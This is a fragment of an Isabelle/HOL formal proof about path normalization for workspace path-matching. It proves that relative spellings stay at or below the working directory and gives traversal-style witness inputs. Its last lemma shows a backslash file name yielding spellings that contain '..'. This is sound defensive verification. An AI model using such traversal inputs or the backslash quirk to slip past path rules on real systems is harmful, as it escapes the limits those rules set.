  using assms rooted_normalize [OF assms(2)]
  by (auto simp: path_strip_prefix_def is_tilde_path_def rooted_form_def
      split: list.splits component.splits)

text \<open>
  Traversal cannot escape the workspace: a path gets a spelling relative to the working
  directory, which a pattern such as \<open>./**\<close> could match, only if it is no \<open>~\<close> path and the
  place it leads to from that directory is the directory itself or lies below it.
\<close>

theorem relative_forms_stay_below_cwd:
  assumes "is_absolute d"
  shows "path_match_forms p (Some d) =
           [path_match_string (absolute_normalized_path p (Some d))]
         \<or> (\<not> is_tilde_path p \<and> suffix (locate [] d) (locate (locate [] d) p))"
proof (cases "path_strip_prefix (absolute_normalized_path p (Some d)) (normalize_lexically d)")
  case None
  then show ?thesis by (simp add: path_match_forms_def Let_def)
next
  case (Some rel)
  then have t: "\<not> is_tilde_path p"
    using tilde_no_prefix assms by (auto simp: absolute_normalized_path_def)
  then have "suffix (locate [] d) (locate [] (join_cwd p (Some d)))"
    using Some strip_prefix_below [OF assms join_cwd_absolute [OF assms]]
    by (simp add: absolute_normalized_path_def)
  then show ?thesis using t assms by (simp add: locate_join)
qed

theorem relative_forms_stay_below_cwd_witness:
  "path_match_forms ''a/../../b'' (Some ''/w'') = [''/b'']
   \<and> path_match_forms ''a/../b'' (Some ''/w'') = [''/w/b'', ''./b'', ''b'']
   \<and> suffix (locate [] ''/w'') (locate (locate [] ''/w'') ''a/../b'')"
proof -
  have f: "path_match_forms ''a/../../b'' (Some ''/w'') = [''/b'']"
    "path_match_forms ''a/../b'' (Some ''/w'') = [''/w/b'', ''./b'', ''b'']"
    "is_absolute ''/w''"
    by code_simp+
  show ?thesis
    using relative_forms_stay_below_cwd [OF f(3), of "''a/../b''"] f by simp
qed

text \<open>
  The spellings may still contain \<open>..\<close> on Unix: a backslash is part of a file name there,
  so normalization keeps it, and the spelling then writes it as a slash.
\<close>

lemma backslash_spelling_has_parent:
  "path_match_forms [CHR ''a'', backslash, CHR ''.'', CHR ''.'', backslash, CHR ''x''] (Some ''/w'')
   = [''/w/a/../x'', ''./a/../x'', ''a/../x'']"
  by code_simp

end
